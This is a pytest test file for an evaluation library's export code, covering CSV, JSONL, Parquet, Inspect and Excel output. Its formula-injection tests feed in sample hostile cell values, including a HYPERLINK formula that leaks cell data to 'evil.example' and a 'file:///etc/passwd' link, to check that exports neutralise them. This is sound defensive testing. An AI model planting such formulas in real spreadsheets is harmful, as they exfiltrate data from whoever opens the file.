"""Exports: what is written is read back, formulas are dead, and nothing is loaded that is not asked for."""

from __future__ import annotations

import csv
import json
import re
import sys
import zipfile
from collections.abc import Callable
from importlib import import_module
from pathlib import Path
from typing import Any, get_args

import pytest

from askance.errors import AskanceError, MissingExtra, Refused, StoreError, UsageError
from askance.evals import Evaluation, Prediction, Run, Sample, Score, Scorer, evaluate, mean, right_or_wrong
from askance.evals.exports import FORMS, export, to_pandas
from askance.evals.exports.frames import LONGEST_CELL
from askance.evals.tables import spreadsheet_cell
from tests.evals.guilty import run_of
from tests.evals.numbers import NON_ANSWERS
from tests.evals.odd import Corner, chooser, write_pictures
from tests.evals.pictures import OPTIONS, chain_of, picture_run


@pytest.fixture
def run(tmp_path: Path) -> Run:
    return run_of(tmp_path / "pictures", "objects", of=["01"], out=str(tmp_path / "run"))


def odd_run(tmp_path: Path, *, value: Any = "fine", name: str = "a") -> Run:
    """A run of one sample that says `value`, and one of each kind of non-answer."""
    kinds = [*NON_ANSWERS.values()]

    def solve(sample: Sample) -> Any:
        if sample.id.isdigit():
            raise kinds[int(sample.id)](f"no {sample.id}")
        return value

    scoring = Scorer(
        score=lambda _sample, _value: Score(values={"worth": 0.5, "none": float("nan")}, notes={"kind": value}),
        metrics=(mean("worth"),),
        if_wrong=lambda _: Score(values={"worth": 0.0}),
        if_right=lambda _: Score(values={"worth": 1.0}),
    )
    samples = [Sample(id=name, tags={"mark": value}), *(Sample(id=str(place)) for place in range(len(kinds)))]
    return evaluate(Evaluation(samples=samples, solver=solve, name="odd ones", scorer=scoring), out=tmp_path / "odd")


def test_csv_has_a_row_an_answer(run: Run, tmp_path: Path) -> None:
    place = export(run, "csv", tmp_path / "x" / "run.csv")

    with place.open(encoding="utf-8", newline="") as file:
        rows = [*csv.DictReader(file)]
    assert [(row["id"], row["outcome"], row["value"], row["score.accuracy"]) for row in rows] == [
        ("00", "answered", "[1]", "1.0"),
        ("01", "answered", "[2]", "0.0"),
        ("02", "answered", "[1]", "1.0"),
        ("03", "answered", "[1]", "1.0"),
    ]
    assert json.loads(rows[1]["objects"]) == ["cup", "brick 01", "LIE"]


def test_how_sure_an_answer_is_and_whether_it_is_withheld_are_columns(run: Run, tmp_path: Path) -> None:
    def solve(sample: Sample) -> Prediction:
        sure = 0.9 if sample.id == "a" else 0.2
        return Prediction(outcome="answered", value="fine", confidence=sure, abstained=sure < 0.5)

    samples = [Sample(id=each, target="fine") for each in "ab"]
    sure = evaluate(
        Evaluation(name="sure", samples=samples, solver=solve, scorer=right_or_wrong()), out=tmp_path / "sure"
    )

    with export(sure, "csv", tmp_path / "sure.csv").open(encoding="utf-8", newline="") as file:
        assert [(row["confidence"], row["abstained"]) for row in csv.DictReader(file)] == [
            ("0.9", "False"),
            ("0.2", "True"),
        ]
    assert "confidence" not in export(run, "csv", tmp_path / "run.csv").read_text(encoding="utf-8").splitlines()[0]


FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "|calc", "%0", "\uff1dcmd", '=HYPERLINK("x")']


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_no_spreadsheet_runs_a_cell(tmp_path: Path, text: str) -> None:
    place = export(odd_run(tmp_path, value=text, name=f"{text} name"), "csv", tmp_path / "x.csv")

    with place.open(encoding="utf-8", newline="") as file:
        (row,) = [row for row in csv.DictReader(file) if row["outcome"] == "answered"]
    dead = f"'{text[:1]}'{text[1:]}" if text[0] in "\t\r" else f"'{text}"
    assert (row["id"], row["value"], row["tag.mark"]) == (f"{dead} name", dead, dead)


SEPARATED = ["a;=1+1", "a\t=1", "a; -1", 'a;"=1', "a\n@x", "a\r\n+1", "a;;=1", 'a" ;=1', "a;\uff1d1"]


@pytest.mark.parametrize("text", SEPARATED, ids=repr)
def test_no_spreadsheet_runs_a_part_of_a_cell(tmp_path: Path, text: str) -> None:
    place = export(odd_run(tmp_path, value=text, name=f"{text} name"), "csv", tmp_path / "x.csv")

    parts = re.split(r"[;\t\r\n]", place.read_text(encoding="utf-8"))
    assert [part for part in parts if re.match(r"[\s\"]*[=+\-@\uff1d]", part)] == []


@pytest.mark.parametrize("each", ["plain", "a=b", "a;b", "a; b", "a\tb", "x - y", "", 1, -1.5, True, None], ids=repr)
def test_what_is_no_formula_stays_as_it_is(each: Any) -> None:
    assert spreadsheet_cell(each) == each


def test_json_lines_hold_all_that_is_known(run: Run, tmp_path: Path) -> None:
    place = export(run, "jsonl", tmp_path / "run.jsonl")

    lines = [json.loads(line) for line in place.read_text(encoding="utf-8").splitlines()]
    assert [(line["id"], line["score"]["values"]) for line in lines][:2] == [
        ("00", {"accuracy": 1.0}),
        ("01", {"accuracy": 0.0}),
    ]
    assert lines[0]["sample"] == run.answers[0].sample.form()


def test_outcomes_without_an_answer_are_rows_too(tmp_path: Path) -> None:
    columns = odd_run(tmp_path).columns()

    assert sorted(str(each) for each in columns["outcome"]) == sorted(["answered", *NON_ANSWERS])
    assert columns["score.worth"] == [None] * 6 + [0.5]
    assert {len(column) for column in columns.values()} == {7}


def test_json_has_no_numbers_of_its_own_making(tmp_path: Path) -> None:
    place = export(odd_run(tmp_path), "jsonl", tmp_path / "x.jsonl")

    assert "NaN" not in place.read_text(encoding="utf-8")


def test_parquet_is_read_back(run: Run, tmp_path: Path) -> None:
    place = export(run, "parquet", tmp_path / "run.parquet")

    table: Any = import_module("pyarrow.parquet").read_table(place)
    assert table.to_pydict() == run.columns()
    assert str(table.schema.field("score.accuracy").type) == "double"


def test_half_a_surrogate_pair_can_be_written(tmp_path: Path) -> None:
    run = odd_run(tmp_path, value="\ud800", name="\ud801")

    for form in ("csv", "jsonl", "parquet", "inspect"):
        assert export(run, form, tmp_path / f"x.{form}").stat().st_size > 0


def test_a_log_of_inspect_has_every_sample_with_what_was_asked(run: Run, tmp_path: Path) -> None:
    place = export(run, "inspect", tmp_path / "run.json")

    log = json.loads(place.read_text(encoding="utf-8"))
    assert (log["version"], log["status"], log["eval"]["task"], len(log["samples"])) == (
        2,
        "success",
        "tests/guilty",
        4,
    )
    sample = log["samples"][1]
    assert (sample["id"], sample["epoch"], sample["scores"]["askance"]["value"]) == ("01", 1, {"accuracy": 0.0})
    assert [message["role"] for message in sample["messages"][:3]] == ["system", "user", "assistant"]
    assert sum(message["role"] == "assistant" for message in sample["messages"]) == 7


def test_a_log_of_inspect_says_what_was_shown_of_a_picture(tmp_path: Path) -> None:
    run = evaluate(Corner(data=write_pictures(tmp_path / "data", 1), vlm=chooser(2), count=1), out=tmp_path / "run")

    log = json.loads(export(run, "inspect", tmp_path / "run.json").read_text(encoding="utf-8"))

    crop, highlight, text = log["samples"][0]["messages"][0]["content"].splitlines()
    assert crop.endswith(', view {"boxes": [[0, 0, 9, 9]], "show": "crop", "unit": "native pixels", "version": 1}]')
    assert highlight.endswith(
        ', view {"boxes": [[0, 0, 9, 9]], "show": "highlight", "style": "sherlock", "version": 1}]'
    )
    assert text == "Which?"


def test_the_packed_log_says_the_same(run: Run, tmp_path: Path) -> None:
    log = json.loads(export(run, "inspect", tmp_path / "run.json").read_text(encoding="utf-8"))

    with zipfile.ZipFile(export(run, "inspect", tmp_path / "run.eval")) as file:
        parts = {name: json.loads(file.read(name)) for name in file.namelist()}

    assert parts.pop("header.json") == {name: part for name, part in log.items() if name != "samples"}
    assert parts["samples/01_epoch_1.json"] == log["samples"][1]
    assert [each["id"] for each in parts["summaries.json"]] == ["00", "01", "02", "03"]


def test_equal_runs_make_equal_files(run: Run, tmp_path: Path) -> None:
    for form in ("csv", "jsonl", "inspect"):
        one, other = (export(Run.open(run.path), form, tmp_path / f"{name}.{form}") for name in "ab")
        assert one.read_bytes() == other.read_bytes()


def test_without_a_path_it_is_named_after_the_run(run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)

    assert [export(run, form) for form in ("csv", "jsonl", "parquet", "inspect")] == [
        Path("run.csv"),
        Path("run.jsonl"),
        Path("run.parquet"),
        Path("run.eval"),
    ]


Write = Callable[[Run, Path], object]
LIBRARIES: dict[str, tuple[str, Write, str]] = {
    "pandas": ("pandas", lambda run, _: run.to_pandas(), "frames"),
    "polars": ("polars", lambda run, _: run.to_polars(), "frames"),
    "parquet": ("pyarrow", lambda run, place: export(run, "parquet", place), "arrow"),
    "excel": ("xlsxwriter", lambda run, place: export(run, "xlsx", place), "excel"),
    "mlflow": ("mlflow.tracking", lambda run, place: export(run, "mlflow", place), "mlflow"),
    "hf": ("datasets", lambda run, place: export(run, "hf", place), "hf"),
}


@pytest.mark.parametrize(("name", "write", "extra"), LIBRARIES.values(), ids=LIBRARIES)
def test_a_library_that_is_not_there_is_named_with_its_extra(
    run: Run,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    name: str,
    write: Callable[[Run, Path], object],
    extra: str,
) -> None:
    monkeypatch.setitem(sys.modules, name, None)

    with pytest.raises(MissingExtra) as found:
        write(run, tmp_path / "x")

    assert found.value.message == f"This export needs {name.partition('.')[0]}, which is not installed."
    assert found.value.hint == f"pip install 'askance[{extra}]'"
    assert not (tmp_path / "x").exists()


BAD: dict[str, tuple[str, str, type[AskanceError], str]] = {
    "no such form": ("xls", "x", UsageError, r"^There is no form 'xls'\."),
    "in the run": ("csv", "run/samples.jsonl", UsageError, r"lies in the run's own folder\."),
    "a folder": ("csv", "pictures", StoreError, r"^'.*pictures' cannot be written: "),
    "below a file": ("csv", "run.txt/x.csv", StoreError, r"^'.*x\.csv' cannot be written: "),
}


@pytest.mark.parametrize(("to", "place", "kind", "message"), BAD.values(), ids=BAD)
def test_what_cannot_be_written_is_refused(
    run: Run, tmp_path: Path, to: str, place: str, kind: type[AskanceError], message: str
) -> None:
    (tmp_path / "run.txt").write_text("x", encoding="utf-8")

    with pytest.raises(kind, match=message):
        export(run, to, tmp_path / place)


def test_a_run_without_samples_has_nothing_to_export(run: Run, tmp_path: Path) -> None:
    (run.path / "samples.jsonl").write_text("", encoding="utf-8")

    with pytest.raises(UsageError, match=r"has no samples yet\."):
        export(Run.open(run.path), "csv", tmp_path / "x.csv")


def test_the_forms_are_those_that_the_command_names() -> None:
    from askance.cli.export import ExportFormat

    assert get_args(ExportFormat) == FORMS


def test_rows_name_their_columns_once(run: Run) -> None:
    assert all(len({*row}) == len(row) for row in run.rows())


# --- workbooks ---


def sheet_of(place: Path) -> list[list[Any]]:
    """The cells of a workbook, each with its value and its type."""
    book: Any = import_module("openpyxl").load_workbook(place)
    return [[(cell.value, cell.data_type) for cell in row] for row in book.active.iter_rows()]


def test_a_workbook_has_the_rows_of_the_csv(run: Run, tmp_path: Path) -> None:
    head, *rows = sheet_of(export(run, "xlsx", tmp_path / "x.xlsx"))

    columns = run.columns()
    assert [value for value, _ in head] == [*columns]
    there = {name: [row[place][0] for row in rows] for place, name in enumerate(columns)}
    assert there == {name: [value if value != "" else None for value in values] for name, values in columns.items()}


@pytest.mark.parametrize("text", [*FORMULAS, "https://example.org", "file:///etc/passwd", "{=1+1}"], ids=repr)
def test_no_cell_of_a_workbook_is_computed_or_led_away_by(tmp_path: Path, text: str) -> None:
    place = export(odd_run(tmp_path, value=text, name=f"{text} name"), "xlsx", tmp_path / "x.xlsx")

    cells = [cell for row in sheet_of(place) for cell in row]
    assert {kind for _, kind in cells} <= {"s", "n", "b"}
    assert sum(str(value).replace("_x000D_", "\r") == text for value, _ in cells) == 3  # value, note, tag
    with zipfile.ZipFile(place) as file:
        texts = [file.read(name).decode() for name in file.namelist()]
    assert not any("<f>" in each or "hyperlink" in each for each in texts)


def test_a_text_that_would_be_computed_stays_a_text_when_it_is_edited(tmp_path: Path) -> None:
    place = export(odd_run(tmp_path, value="=1+1", name="plain"), "xlsx", tmp_path / "x.xlsx")

    book: Any = import_module("openpyxl").load_workbook(place)
    marked = {cell.value: bool(cell.quotePrefix) for row in book.active.iter_rows() for cell in row}
    assert (marked["=1+1"], marked["plain"]) == (True, False)


def test_what_no_cell_can_hold_is_cut_and_says_so(tmp_path: Path) -> None:
    place = export(odd_run(tmp_path, value="x" * (LONGEST_CELL + 1)), "xlsx", tmp_path / "x.xlsx")

    longest = max((str(value) for row in sheet_of(place) for value, _ in row), key=len)
    assert (len(longest), longest[-32:]) == (LONGEST_CELL, "x … (cut: --to csv has it whole)")


# --- single pictures ---


def test_pictures_have_a_row_each_with_what_every_link_says(tmp_path: Path) -> None:
    run = picture_run(tmp_path / "run", tmp_path / "pictures", count=2)

    rows = [*run.rows()]

    assert [*rows[0]] == [
        *("image", "outcome", "reason", "objects", "scene_text", "narration", "unusual", "description"),
        *("relation", "statement", "answers", "chosen", "options", "sha256"),
        *("calls", "replayed", "seconds", "cost", "input_tokens", "output_tokens"),
    ]
    assert (rows[0]["outcome"], rows[0]["reason"], rows[0]["objects"]) == ("answered", None, ["cup", "bricks"])
    assert (rows[0]["answers"], rows[0]["chosen"]) == ([2, 1, 3], [OPTIONS[1], OPTIONS[0], OPTIONS[2]])
    assert rows[0]["relation"] in {"TR1", "TR2", "OIO", "OR"}
    assert (rows[0]["cost"], rows[0]["output_tokens"]) == (None, 0)


def test_a_picture_without_an_answer_has_the_same_columns(tmp_path: Path) -> None:
    run = picture_run(tmp_path / "run", tmp_path / "pictures", count=1, unusual=Refused("It would rather not."))

    (row,) = run.rows()

    assert (row["outcome"], row["unusual"], row["objects"]) == ("skipped", None, ["cup", "bricks"])
    assert (row["description"], row["answers"], row["chosen"]) == (None, None, None)
    assert "would rather not" in str(row["reason"])


@pytest.mark.parametrize("form", [form for form in FORMS if form not in {"mlflow", "hf"}])
def test_pictures_are_written_in_every_form(tmp_path: Path, form: str) -> None:
    run = picture_run(tmp_path / "run", tmp_path / "pictures", count=2)

    assert export(run, form, tmp_path / f"x.{form}").stat().st_size > 0


def test_what_a_picture_says_is_no_formula(tmp_path: Path) -> None:
    said = '=HYPERLINK("https://evil.example/?"&A1)'
    run = picture_run(tmp_path / "run", tmp_path / "pictures", count=1, narration={"description": said})

    with export(run, "csv", tmp_path / "x.csv").open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    cells = [cell for line in sheet_of(export(run, "xlsx", tmp_path / "x.xlsx")) for cell in line]

    assert row["narration"] == f"'{said}"
    assert (said, "s") in cells


def test_a_frame_is_made_of_a_run_a_folder_or_readings(tmp_path: Path) -> None:
    pytest.importorskip("pandas")
    run = picture_run(tmp_path / "run", tmp_path / "pictures", count=2)
    readings = [chain_of().invoke({"image": answer.sample.id, "options": OPTIONS}) for answer in run.answers]

    frames = [to_pandas(source) for source in (run, run.path, str(run.path), readings)]

    assert [list(frame["narration"]) for frame in frames] == [["A cup on a table."] * 2] * 4
    assert [list(frame["answers"]) for frame in frames] == [["[2, 1, 3]"] * 2] * 4
    assert list(frames[3]["image"]) == ["00.png", "01.png"]


def test_no_readings_make_an_empty_frame() -> None:
    pytest.importorskip("pandas")

    assert len(to_pandas([])) == 0
